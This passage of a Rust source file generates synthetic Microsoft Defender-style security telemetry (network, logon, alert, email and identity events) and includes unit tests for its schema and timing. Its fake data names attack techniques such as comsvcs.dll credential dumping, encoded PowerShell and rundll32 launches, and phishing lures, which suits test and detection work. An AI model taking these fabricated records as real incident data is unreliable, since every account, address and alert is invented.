    v.push(c("InitiatingProcessCreationTime", TIME, init_created));
    v.push(c("InitiatingProcessFolderPath", STR, init_folder));
    v.push(c("InitiatingProcessParentFileName", STR, parent_file));
    v.push(c("InitiatingProcessParentId", LONG, parent_id));
    v.push(c("InitiatingProcessParentCreationTime", TIME, parent_created));
    init_account(&mut v);
    v.push(c("InitiatingProcessIntegrityLevel", STR, |r| integrity(r, 18)));
    v.push(c("InitiatingProcessTokenElevation", STR, |r| elevation(r, 19)));
    v.push(c("ReportId", LONG, report_id));
    v.push(c("AppGuardContainerId", STR, |_| s("")));
    v.push(c("AdditionalFields", STR, additional_fields_str));
    session_tail(&mut v);
    TableSpec { name: "DeviceNetworkEvents", cols: v }
}

fn device_logon_events() -> TableSpec {
    let mut v = Vec::with_capacity(48);
    head(&mut v, |r| s(if r.h(30).is_multiple_of(4) { "LogonFailed" } else { "LogonSuccess" }));
    v.push(c("LogonType", STR, |r| {
        s(r.pick(
            31,
            &["Interactive", "Network", "RemoteInteractive", "Batch", "Service", "Unlock"],
        ))
    }));
    v.push(c("AccountDomain", STR, |r| s(r.acct.domain)));
    v.push(c("AccountName", STR, |r| s(r.acct.name)));
    v.push(c("AccountSid", STR, |r| Cell::Str(r.ids.sid.clone())));
    v.push(c("Protocol", STR, |r| s(r.pick(32, &["Kerberos", "NTLM", "Negotiate"]))));
    v.push(c("FailureReason", STR, |r| {
        if r.h(30).is_multiple_of(4) {
            s(r.pick(33, &["InvalidUserNameOrPassword", "UserAccountLocked", "AccountDisabled"]))
        } else {
            Cell::Null
        }
    }));
    v.push(c("IsLocalAdmin", BOOL, |r| Cell::Bool(r.h(34).is_multiple_of(3))));
    v.push(c("LogonId", LONG, |r| Cell::Int((r.h(16) % 0xFF_FFFF) as i64)));
    v.push(c("RemoteDeviceName", STR, |r| {
        if r.h(35).is_multiple_of(3) { Cell::Null } else { s(r.device_after(1).name) }
    }));
    v.push(c("RemoteIP", STR, |r| s(r.pick(22, REMOTE_IPS))));
    v.push(c("RemoteIPType", STR, |r| s(r.pick(27, &["Public", "Private", "Loopback"]))));
    v.push(c("RemotePort", INT, |r| {
        if r.h(23).is_multiple_of(4) {
            Cell::Null
        } else {
            Cell::Int(49_152 + (r.h(36) % 16_000) as i64)
        }
    }));
    init_account(&mut v);
    v.push(c("InitiatingProcessIntegrityLevel", STR, |r| integrity(r, 18)));
    v.push(c("InitiatingProcessTokenElevation", STR, |r| elevation(r, 19)));
    init_image(&mut v);
    v.push(c("InitiatingProcessId", LONG, init_id));
    v.push(c("InitiatingProcessCommandLine", STR, init_cmd));
    v.push(c("InitiatingProcessCreationTime", TIME, init_created));
    v.push(c("InitiatingProcessFolderPath", STR, init_folder));
    v.push(c("InitiatingProcessParentId", LONG, parent_id));
    v.push(c("InitiatingProcessParentFileName", STR, parent_file));
    v.push(c("InitiatingProcessParentCreationTime", TIME, parent_created));
    v.push(c("ReportId", LONG, report_id));
    v.push(c("AppGuardContainerId", STR, |_| s("")));
    v.push(c("AdditionalFields", STR, additional_fields_str));
    session_tail(&mut v);
    TableSpec { name: "DeviceLogonEvents", cols: v }
}

const ALERTS: &[(&str, &str, &str, &str)] = &[
    ("Suspicious PowerShell command line", "Execution", "T1059.001", "Medium"),
    (
        "Possible credential dumping via comsvcs.dll \"MiniDump\"",
        "CredentialAccess",
        "T1003.001",
        "High",
    ),
    ("Suspicious scheduled task", "Persistence", "T1053.005", "Medium"),
    ("Anomalous sign-in from 渡辺's account", "InitialAccess", "T1078", "Low"),
    ("Malware 'Trojan:Win32/Wacatac' was prevented", "Malware", "", "Informational"),
    ("Ransomware behavior detected\tin file system", "Ransomware", "T1486", "High"),
];

fn alert_info() -> TableSpec {
    let mut v = Vec::with_capacity(8);
    v.push(c("Timestamp", TIME, |r| Cell::Time(r.ts)));
    v.push(c("AlertId", STR, |r| {
        Cell::Str(format!("da{}_{}", hex(r.h(50), 18), r.h(51) % 1_000_000_000))
    }));
    v.push(c("Title", STR, |r| s(r.pick(52, ALERTS).0)));
    v.push(c("Category", STR, |r| s(r.pick(52, ALERTS).1)));
    v.push(c("Severity", STR, |r| s(r.pick(52, ALERTS).3)));
    v.push(c("ServiceSource", STR, |r| {
        s(r.pick(
            53,
            &[
                "Microsoft Defender for Endpoint",
                "Microsoft Defender for Identity",
                "Microsoft Defender for Office 365",
                "Microsoft Defender XDR",
            ],
        ))
    }));
    v.push(c("DetectionSource", STR, |r| {
        s(r.pick(54, &["EDR", "Antivirus", "Microsoft Defender XDR", "Custom detection"]))
    }));
    v.push(c("AttackTechniques", STR, |r| {
        let t = r.pick(52, ALERTS).2;
        if t.is_empty() { s("") } else { Cell::Str(format!("[\"{t}\"]")) }
    }));
    TableSpec { name: "AlertInfo", cols: v }
}

const SUBJECTS: &[&str] = &[
    "Invoice 4521 📎 due Friday",
    "Re: \"Urgent\" wire transfer",
    "Quarterly report\tQ3 — final",
    "Zoë's lunch with 渡辺 🍣",
    r"Path C:\Shares\Finance\ is full",
    "Your password expires today",
    "",
];
const SENDERS: &[(&str, &str)] = &[
    ("billing@fabrikam.com", "Fabrikam Billing"),
    ("no-reply@microsoft.com", "Microsoft"),
    ("ceo@contoso-secure.net", "Jöhn \"CEO\" Smith"),
    ("hr@contoso.com", "人事部"),
];

fn email_events() -> TableSpec {
    let mut v = Vec::with_capacity(40);
    v.push(c("Timestamp", TIME, |r| Cell::Time(r.ts)));
    v.push(c("NetworkMessageId", STR, |r| Cell::Str(guid(r.h(60)))));
    v.push(c("InternetMessageId", STR, |r| {
        Cell::Str(format!("<{}@mail.{}>", hex(r.h(61), 24), domain(r.pick(62, SENDERS).0)))
    }));
    v.push(c("SenderMailFromAddress", STR, |r| s(r.pick(62, SENDERS).0)));
    v.push(c("SenderFromAddress", STR, |r| s(r.pick(62, SENDERS).0)));
    v.push(c("SenderDisplayName", STR, |r| s(r.pick(62, SENDERS).1)));
    v.push(c("SenderObjectId", STR, |r| {
        let a = r.pick(62, SENDERS).0;
        if a.ends_with("@contoso.com") { Cell::Str(guid(str_seed(a))) } else { Cell::Null }
    }));
    v.push(c("SenderMailFromDomain", STR, |r| s(domain(r.pick(62, SENDERS).0))));
    v.push(c("SenderFromDomain", STR, |r| s(domain(r.pick(62, SENDERS).0))));
    v.push(c("SenderIPv4", STR, |r| {
        Cell::Str(format!("40.107.{}.{}", r.h(63) % 256, r.h(64) % 256))
    }));
    v.push(c("SenderIPv6", STR, |r| {
        if r.h(65).is_multiple_of(3) { s("2a01:111:f403:7053::80d") } else { Cell::Null }
    }));
    v.push(c("RecipientEmailAddress", STR, |r| {
        s(r.acct.upn.unwrap_or("shared-mailbox@contoso.com"))
    }));
    v.push(c("RecipientObjectId", STR, |r| Cell::Str(guid(str_seed(r.acct.name)))));
    v.push(c("Subject", STR, |r| s(r.pick(66, SUBJECTS))));
    v.push(c("EmailClusterId", LONG, |r| {
        Cell::Int((r.h(67) % 4_000_000_000) as i64 + 3_000_000_000)
    }));
    v.push(c("EmailDirection", STR, |r| {
        s(r.pick(68, &["Inbound", "Inbound", "Outbound", "Intra-org"]))
    }));
    v.push(c("DeliveryAction", STR, |r| {
        s(r.pick(69, &["Delivered", "Delivered", "Junked", "Blocked"]))
    }));
    v.push(c("DeliveryLocation", STR, |r| {
        s(r.pick(69, &["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"]))
    }));
    v.push(c("ThreatTypes", STR, |r| {
        s(r.pick(70, &["", "", "Phish", "Malware", "Spam", "Phish, Spam"]))
    }));
    v.push(c("ThreatNames", STR, |r| s(r.pick(70, &["", "", "", "Trojan:Win32/Wacatac", "", ""]))));
    v.push(c("DetectionMethods", STR, |r| {
        s(r.pick(
            70,
            &[
                "",
                "",
                r#"{"Phish":["URL detonation reputation"]}"#,
                r#"{"Malware":["File detonation"]}"#,
                r#"{"Spam":["Mixed analysis detection"]}"#,
                r#"{"Phish":["Spoof DMARC"],"Spam":["Bulk"]}"#,
            ],
        ))
    }));
    v.push(c("ConfidenceLevel", STR, |r| {
        s(r.pick(
            70,
            &[
                "",
                "",
                r#"{"Phish":"High"}"#,
                r#"{"Malware":"High"}"#,
                r#"{"Spam":"Normal"}"#,
                r#"{"Phish":"Normal","Spam":"High"}"#,
            ],
        ))
    }));
    v.push(c("BulkComplaintLevel", INT, |r| {
        if r.h(71).is_multiple_of(5) { Cell::Null } else { Cell::Int((r.h(71) % 10) as i64) }
    }));
    v.push(c("EmailAction", STR, |r| {
        s(r.pick(
            72,
            &["No action taken", "Move message to junk mail folder", "Send message to quarantine"],
        ))
    }));
    v.push(c("EmailActionPolicy", STR, |r| s(r.pick(72, &["", "Antispam", "Antiphish"]))));
    v.push(c("EmailActionPolicyGuid", STR, |r| {
        if r.h(72).is_multiple_of(3) { Cell::Null } else { Cell::Str(guid(r.h(73))) }
    }));
    v.push(c("AuthenticationDetails", STR, |r| {
        s(r.pick(
            74,
            &[
                r#"{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}"#,
                r#"{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}"#,
            ],
        ))
    }));
    v.push(c("AttachmentCount", INT, |r| Cell::Int((r.h(75) % 4) as i64)));
    v.push(c("UrlCount", INT, |r| Cell::Int((r.h(76) % 12) as i64)));
    v.push(c("EmailLanguage", STR, |r| s(r.pick(77, &["en", "en", "de", "ja", "fr"]))));
    v.push(c("Connectors", STR, |_| s("")));
    v.push(c("OrgLevelAction", STR, |r| s(r.pick(78, &["", "", "Allow", "Block"]))));
    v.push(c("OrgLevelPolicy", STR, |r| {
        s(r.pick(78, &["", "", "Connection policy", "Tenant Allow Block List"]))
    }));
    v.push(c("UserLevelAction", STR, |_| s("")));
    v.push(c("UserLevelPolicy", STR, |_| s("")));
    v.push(c("ReportId", STR, |r| {
        Cell::Str(format!("{}-{}", guid(r.h(60)), r.k.rem_euclid(100_000)))
    }));
    v.push(c("AdditionalFields", STR, |r| {
        if r.h(79).is_multiple_of(2) {
            Cell::Null
        } else {
            s(r#"{"SenderDomainAge":"4d","Tags":["External","\"quoted\""]}"#)
        }
    }));
    v.push(c("LatestDeliveryLocation", STR, |r| {
        s(r.pick(69, &["Inbox/folder", "Inbox/folder", "Junk folder", "Quarantine"]))
    }));
    v.push(c("LatestDeliveryAction", STR, |r| {
        s(r.pick(69, &["Delivered", "Delivered", "Junked", "Blocked"]))
    }));
    TableSpec { name: "EmailEvents", cols: v }
}

fn domain(address: &str) -> &str {
    address.rsplit_once('@').map_or(address, |(_, d)| d)
}

fn identity_additional_fields(r: &R) -> Cell {
    let n = r.h(90);
    let v = match n % 4 {
        0 => json!({
            "Count": (n % 9) as i64 + 1,
            "Pivots": ["Kerberos", {"Tgt": true, "Spn": null}, 3.25],
            "Geo": {"Lat": 47.6062, "Lon": -122.3321, "Trusted": false, "City": "Seattle"},
            "Note": null,
        }),
        1 => json!({
            "ACTOR.DEVICE": r.device().name,
            "TO.DEVICE": "dc01",
            "Path": r"\\dc01\SYSVOL\contoso.com\Policies",
            "Comment": "tab\there, \"quotes\" and 渡辺",
            "Tags": [],
        }),
        2 => json!(["first", 2, 2.5, null, {"nested": {"deeper": [true, false]}}]),
        _ => json!({}),
    };
    Cell::Dyn(v)
}

fn identity_logon_events() -> TableSpec {
    let mut v = Vec::with_capacity(26);
    v.push(c("Timestamp", TIME, |r| Cell::Time(r.ts)));
    v.push(c("ActionType", STR, |r| {
        s(if r.h(30).is_multiple_of(5) { "LogonFailed" } else { "LogonSuccess" })
    }));
    v.push(c("Application", STR, |r| {
        s(r.pick(80, &["Active Directory", "Microsoft 365", "Azure Portal"]))
    }));
    v.push(c("LogonType", STR, |r| {
        s(r.pick(
            81,
            &["Credentials validation", "Resource access", "Interactive", "Remote desktop"],
        ))
    }));
    v.push(c("Protocol", STR, |r| s(r.pick(82, &["Kerberos", "Ntlm", "Ldap", ""]))));
    v.push(c("FailureReason", STR, |r| {
        if r.h(30).is_multiple_of(5) { s("WrongPassword") } else { Cell::Null }
    }));
    v.push(c("AccountName", STR, |r| s(r.acct.name)));
    v.push(c("AccountDomain", STR, |r| Cell::Str(r.acct.domain.to_lowercase())));
    v.push(c("AccountUpn", STR, |r| upn(r.acct)));
    v.push(c("AccountSid", STR, |r| Cell::Str(r.ids.sid.clone())));
    v.push(c("AccountObjectId", STR, |r| object_id(r.ids)));
    v.push(c("AccountDisplayName", STR, |r| s(r.acct.display)));
    v.push(c("DeviceName", STR, |r| s(r.device().name)));
    v.push(c("DeviceType", STR, |r| {
        s(if r.device().os.starts_with("WindowsServer") { "Server" } else { "Workstation" })
    }));
    v.push(c("OSPlatform", STR, |r| s(r.device().os)));
    v.push(c("IPAddress", STR, |r| s(r.device().ip)));
    v.push(c("Port", INT, |r| {
        if r.h(83).is_multiple_of(6) {
            Cell::Null
        } else {
            Cell::Int(49_152 + (r.h(83) % 16_000) as i64)
        }
    }));
    v.push(c("DestinationDeviceName", STR, |_| s("dc01.contoso.com")));
    v.push(c("DestinationIPAddress", STR, |_| s("10.0.0.10")));
    v.push(c("DestinationPort", INT, |r| {
        Cell::Int(i64::from(r.pick(84, &[88u16, 389, 445, 636])))
    }));
    v.push(c("TargetDeviceName", STR, |r| {
        if r.h(85).is_multiple_of(2) { Cell::Null } else { s(r.device_after(3).name) }
    }));
    v.push(c("TargetAccountDisplayName", STR, |r| s(r.iacct.display)));
    v.push(c("Location", STR, |r| s(r.pick(86, &["US", "DE", "JP", "IE", ""]))));
    v.push(c("Isp", STR, |r| {
        s(r.pick(87, &["Microsoft Corporation", "Deutsche Telekom AG", "NTT Communications", ""]))
    }));
    v.push(c("ReportId", STR, |r| {
        Cell::Str(format!("{}@{}", hex(r.h(88), 24), r.k.rem_euclid(1_000_000)))
    }));
    v.push(c("AdditionalFields", DYN, identity_additional_fields));
    TableSpec { name: "IdentityLogonEvents", cols: v }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EPH: u32 = 3600; // one event per second: period 10_000_000 ticks
    const T0: i64 = 1_795_000_000 * TICKS_PER_SECOND; // 2026-11-18T...

    fn times(table: &str, a: i64, b: i64, eph: u32) -> Vec<i64> {
        rows(table, a, b, eph)
            .unwrap()
            .map(|r| match r[0] {
                Cell::Time(t) => t,
                ref other => panic!("Timestamp is {other:?}"),
            })
            .collect()
    }

    #[test]
    fn every_table_starts_with_timestamp_and_has_known_types() {
        let names: Vec<_> = tables().iter().map(|t| t.name).collect();
        for want in [
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceLogonEvents",
            "AlertInfo",
            "EmailEvents",
            "IdentityLogonEvents",
        ] {
            assert!(names.contains(&want), "{want} missing");
        }
        for t in tables() {
            // The hand-written tables start with their Timestamp (the schema's other tables
            // as documented: inventory tables have none, a few have it later).
            if names[..6].contains(&t.name) {
                assert_eq!(t.columns[0], ("Timestamp", "DateTime"), "{}", t.name);
            }
            let mut seen = std::collections::HashSet::new();
            for (name, ty) in &t.columns {
                assert!(seen.insert(*name), "{}: duplicate column {name}", t.name);
                assert!(
                    ["String", "DateTime", "Int64", "Int32", "Boolean", "Dynamic", "Double"]
                        .contains(ty),
                    "{}.{name}: {ty}",
                    t.name
                );
            }
        }
        let ile = table("IdentityLogonEvents").unwrap();
        assert!(ile.columns.contains(&("AdditionalFields", "Dynamic")));
        assert!(ile.columns.contains(&("ReportId", "String")));
        let dpe = table("DeviceProcessEvents").unwrap();
        assert!(dpe.columns.contains(&("ProcessId", "Int64")));
        assert!(dpe.columns.contains(&("InitiatingProcessParentCreationTime", "DateTime")));
        let dne = table("DeviceNetworkEvents").unwrap();
        assert!(dne.columns.contains(&("RemotePort", "Int32")));
        assert!(table("deviceprocessevents").is_none());
        assert!(rows("NoSuchTable", 0, 1, 1).is_none());
        assert!(tables().len() >= 65, "every table of the schema: {}", tables().len());
    }

    #[test]
    fn cells_match_declared_types() {
        for t in tables() {
            for row in rows(t.name, T0, T0 + 200 * TICKS_PER_SECOND, EPH).unwrap() {
                assert_eq!(row.len(), t.columns.len());
                for (cell, (name, ty)) in row.iter().zip(&t.columns) {
                    let ok = match cell {
                        Cell::Null => *ty != "DateTime" || *name != "Timestamp",
                        Cell::Str(_) => *ty == "String",
                        Cell::Time(_) => *ty == "DateTime",
                        Cell::Int(_) => *ty == "Int64" || *ty == "Int32",
                        Cell::Bool(_) => *ty == "Boolean",
                        Cell::Dyn(_) => *ty == "Dynamic",
                        Cell::Real(_) => *ty == "Double",
                    };
                    assert!(ok, "{}.{name} ({ty}) = {cell:?}", t.name);
                }
            }
        }
    }

    #[test]
    fn windows_split_exactly() {
        for eph in [1, 7, 3600, 1_000_000] {
            let p = period(eph).unwrap();
            let (a, c) = (T0 + 3, T0 + 3 + 50 * p + 17);
            for b in [a, a + 1, a + p / 2, a + 10 * p, c - 1, c] {
                let mut left = times("DeviceProcessEvents", a, b, eph);
                left.extend(times("DeviceProcessEvents", b, c, eph));
                assert_eq!(left, times("DeviceProcessEvents", a, c, eph), "eph {eph} b {b}");
            }
        }
    }

    #[test]
    fn count_is_one_per_period_and_strictly_increasing_inside_window() {
        for eph in [1, 60, 3600, 100_000] {
            let p = period(eph).unwrap();
            let a = (T0 / p) * p;
            let b = a + 137 * p;
            let ts = times("DeviceNetworkEvents", a, b, eph);
            assert_eq!(ts.len(), 137, "eph {eph}");
            assert!(ts.windows(2).all(|w| w[0] < w[1]));
            assert!(ts.iter().all(|t| (a..b).contains(t)));
        }
    }

    #[test]
    fn unaligned_window_keeps_only_inside_events() {
        let p = period(EPH).unwrap();
        let all = times("AlertInfo", T0 - 10 * p, T0 + 10 * p, EPH);
        let (a, b) = (T0 + 1234, T0 + 5 * p + 999);
        let want: Vec<_> = all.iter().copied().filter(|t| (a..b).contains(t)).collect();
        assert_eq!(times("AlertInfo", a, b, EPH), want);
        assert!(times("AlertInfo", b, a, EPH).is_empty());
        assert!(times("AlertInfo", a, b, 0).is_empty());
    }

    #[test]
    fn deterministic() {
        let a: Vec<_> =
            rows("IdentityLogonEvents", T0, T0 + 500 * TICKS_PER_SECOND, EPH).unwrap().collect();
        let b: Vec<_> =
            rows("IdentityLogonEvents", T0, T0 + 500 * TICKS_PER_SECOND, EPH).unwrap().collect();
        assert_eq!(a, b);
        assert_eq!(a.len(), 500);
    }

    #[test]
    fn full_precision_and_rounded_timestamps_occur() {
        let ts = times("DeviceProcessEvents", T0, T0 + 1000 * TICKS_PER_SECOND, EPH);
        assert!(ts.iter().any(|t| t % 10 != 0), "some 100 ns precision");
        assert!(ts.iter().any(|t| t % 10_000 == 0 && t % TICKS_PER_SECOND != 0), "whole ms");
        assert!(ts.iter().any(|t| t % TICKS_PER_SECOND == 0), "whole seconds");
    }

    #[test]
    fn variety_nulls_unicode_escapes_nested() {
        let mut strings = Vec::new();
        let mut nulls = std::collections::HashSet::new();
        let mut dyn_nested = false;
        for t in tables() {
            for row in rows(t.name, T0, T0 + 2000 * TICKS_PER_SECOND, EPH).unwrap() {
                for (cell, (name, _)) in row.into_iter().zip(&t.columns) {
                    match cell {
                        Cell::Str(v) => strings.push(v),
                        Cell::Null => {
                            nulls.insert(format!("{}.{name}", t.name));
                        }
                        Cell::Dyn(v) => {
                            let text = v.to_string();
                            dyn_nested |= text.contains("[true,false]") && text.contains("null");
                        }
                        _ => {}
                    }
                }
            }
        }
        for n in [
            "DeviceProcessEvents.InitiatingProcessParentCreationTime",
            "DeviceProcessEvents.AccountUpn",
            "DeviceNetworkEvents.RemotePort",
        ] {
            assert!(nulls.contains(n), "no null in {n}");
        }
        let any = |f: &dyn Fn(&str) -> bool| strings.iter().any(|v| f(v));
        assert!(any(&|v| v.contains("Zoë")));
        assert!(any(&|v| v.contains("渡辺")));
        assert!(any(&|v| v.contains('📎')));
        assert!(any(&|v| v.contains('\t')));
        assert!(any(&|v| v.contains('"')));
        assert!(any(&|v| v.contains('\\')));
        assert!(any(&|v| v.contains(" -enc ")));
        assert!(any(&|v| v.contains("-EncodedCommand")));
        assert!(any(&|v| v.starts_with("cmd.exe /c")));
        assert!(any(&|v| v.starts_with("rundll32")));
        assert!(any(&|v| v == "ConnectionSuccess"));
        assert!(any(&|v| v == "LogonFailed"));
        assert!(any(&|v| v.len() == 64 && v.bytes().all(|b| b.is_ascii_hexdigit())));
        assert!(dyn_nested);
    }

    #[test]
    fn huge_window_is_lazy() {
        // Thirty days at a million events per hour: 720 million rows, never materialised.
        let mut it =
            rows("DeviceProcessEvents", T0, T0 + 30 * 24 * TICKS_PER_HOUR, 1_000_000).unwrap();
        assert!(it.next().is_some());
        assert_eq!(it.take(1000).count(), 1000);
        // Extreme inputs neither panic nor overflow.
        assert!(rows("AlertInfo", i64::MIN, i64::MIN + 5, u32::MAX).unwrap().next().is_none());
        assert_eq!(rows("AlertInfo", i64::MAX - 100, i64::MAX, 1).unwrap().count(), 0);
        assert!(
            rows("AlertInfo", MAX_TICKS - TICKS_PER_HOUR * 5, i64::MAX, 1).unwrap().count() <= 5
        );
    }
}
